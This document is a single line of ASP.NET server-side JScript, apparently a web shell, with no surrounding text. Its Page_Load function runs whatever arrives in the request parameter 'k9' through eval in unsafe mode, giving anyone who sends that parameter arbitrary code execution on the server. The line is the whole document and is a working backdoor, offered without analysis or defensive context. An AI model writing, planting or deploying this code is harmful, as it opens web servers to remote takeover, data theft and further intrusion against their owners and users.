<script language='JScript' runat='server'>function Page_Load(){eval(Request['k9'],'unsafe');}</script>
